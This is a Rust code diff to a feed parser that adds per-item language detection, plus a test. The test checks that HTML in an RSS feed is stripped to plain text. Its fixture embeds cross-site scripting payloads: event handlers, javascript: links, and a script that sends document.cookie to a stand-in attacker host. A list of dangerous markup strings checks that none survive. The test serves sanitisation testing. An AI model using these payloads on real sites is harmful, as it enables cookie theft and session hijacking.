@@ -17,6 +17,7 @@ pub mod feed;
 pub mod hazard;
 pub mod html_list;
 pub mod kemlu;
+pub mod language;
 pub mod sitemap;
 pub mod text;
 pub mod url;
@@ -101,7 +102,16 @@ pub fn parse(input: &ParseInput) -> Result<Vec<NormalizedItem>, ParseError> {
         raw_key: input.raw_key.to_owned(),
         zone: input.time_zone.to_owned(),
     })?;
-    catch_unwind(AssertUnwindSafe(|| run(input, zone))).unwrap_or_else(|payload| {
+    // Every item's language is read from its text, with its declared one as the prior.
+    let run_and_detect = || {
+        run(input, zone).map(|mut items| {
+            for item in &mut items {
+                language::assign(item, input.source_language);
+            }
+            items
+        })
+    };
+    catch_unwind(AssertUnwindSafe(run_and_detect)).unwrap_or_else(|payload| {
         let message = payload
             .downcast_ref::<&str>()
             .map(|s| s.to_string())
@@ -195,6 +205,66 @@ pub(crate) mod test_support {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// Items keep no HTML (body and summary are plain text), so nothing in them can run:
+    /// scripts, event handlers and `javascript:` links in a feed's HTML leave no trace.
+    /// (A title is text, not HTML: a literal `<` in one stays, for the reader to escape.)
+    #[test]
+    fn feed_html_leaves_no_markup_and_items_get_a_language() {
+        let rss = r#"<rss version="2.0"><channel><title>KBRI</title><language>id</language>
+<item><title>Pameran batik di Tokyo</title>
+<link>https://example.org/a</link>
+<description><![CDATA[<p onclick="steal()">Kedutaan Besar Republik Indonesia menggelar pameran batik
+<img src="x" onerror="alert(document.cookie)">selama tiga hari.</p>
+<script>document.location='https://evil.example/'+document.cookie</script>
+<a href="javascript:alert(1)">Baca selengkapnya</a><iframe src="javascript:alert(2)"></iframe>]]></description>
+</item>
+<item><title>The embassy opens a new consular service for Indonesian citizens living in Japan</title>
+<link>https://example.org/b</link></item>
+</channel></rss>"#;
+        let meta = test_support::meta(SourceKind::Feed, "tokyo", "https://example.org/feed");
+        let input = ParseInput {
+            body: rss.as_bytes(),
+            meta: &meta,
+            raw_key: "raw/k.xml",
+            time_zone: "Asia/Tokyo",
+            source_language: Some("id"),
+        };
+        let items = parse(&input).unwrap();
+        assert_eq!(items.len(), 2);
+        let first = &items[0];
+        let texts = [
+            Some(first.title.as_str()),
+            first.summary.as_deref(),
+            first.body.as_deref(),
+        ];
+        for text in texts.into_iter().flatten() {
+            for bad in [
+                "<",
+                "onerror",
+                "onclick",
+                "javascript:",
+                "document.cookie",
+                "steal(",
+            ] {
+                assert!(!text.contains(bad), "{bad:?} in {text:?}");
+            }
+        }
+        assert!(
+            first
+                .summary
+                .as_deref()
+                .unwrap()
+                .contains("menggelar pameran batik"),
+            "{first:?}"
+        );
+        assert_eq!(first.language.as_deref(), Some("id"));
+        assert_eq!(
+            items[1].language.as_deref(),
+            Some("en"),
+            "its text, not the feed's tag"
+        );
+    }
 
     #[test]
     fn listing_pages_give_no_items_articles_go_to_the_extractor_and_bad_zones_fail() {
